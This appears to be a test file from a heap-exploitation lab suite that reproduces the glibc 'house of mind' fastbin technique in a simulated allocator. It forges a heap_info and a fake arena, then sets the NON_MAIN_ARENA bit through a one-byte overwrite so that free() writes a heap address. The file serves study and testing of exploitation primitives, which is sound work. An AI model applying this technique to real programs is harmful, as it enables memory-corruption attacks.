/**
 * house_of_mind_fastbin: a chunk with NON_MAIN_ARENA set is freed into the arena named by the
 * heap_info at its HEAP_MAX_SIZE-aligned base. Growing the main heap past such a boundary
 * lets the attacker write a fake heap_info there (in memory it owns) pointing at a fake arena;
 * setting the bit on a fast chunk past the boundary (a one-byte overwrite) makes free() push
 * it onto the fake arena's fastbin, i.e. write the chunk's address at a chosen offset. The
 * fake arena needs a system_mem above the next chunk's size to pass the free check.
 */

import assert from "node:assert/strict";
import { FASTBIN_VERSIONS, type Lab, NO_FASTBIN_VERSIONS, on, technique } from "./support.ts";

technique({
  name: "house_of_mind_fastbin",
  claim: "free() writes a heap address into a fake arena's fastbin",
  outcomes: {
    ...on(FASTBIN_VERSIONS, "works"),
    // 2.43+: no fastbins: the fake arena's chunk is merged instead, through the fake arena's
    // NULL bins and top.
    ...on(NO_FASTBIN_VERSIONS, { crashes: "no fastbins: free merges through the fake arena" }),
  },
  run(lab: Lab) {
    const h = lab.heap, sz = lab.sz, layout = lab.profile.arena;
    const heapMax = lab.profile.heapMaxSize;
    const fast = sz === 8 ? 0x50 : 0x28; // a fastbin size on either architecture
    const fakeArena = h.malloc(0x1000);
    lab.proc.memory.fill(fakeArena + layout.systemMem, 3, 0xff); // system_mem = 0xffffff
    const heapInfo = Math.ceil((lab.chunk(fakeArena) + 1) / heapMax) * heapMax;
    let user = h.malloc(0x20000 - 0x100); // below the mmap threshold: from the main heap
    while (user < heapInfo) user = h.malloc(0x20000 - 0x100);
    const victim = h.malloc(fast);
    assert.ok(victim > heapInfo && victim < heapInfo + heapMax);
    lab.freeAll(lab.tcacheFillers(fast));
    lab.write(heapInfo, fakeArena); // heap_info.ar_ptr
    lab.vulnerability();
    lab.setWord(victim, -1, lab.chunkSize(fast) | 4); // NON_MAIN_ARENA
    h.free(victim);
    const index = lab.chunkSize(fast) / (2 * sz) - 2; // fastbin_index
    assert.equal(lab.read(fakeArena + layout.fastbins + index * sz), lab.chunk(victim));
  },
});
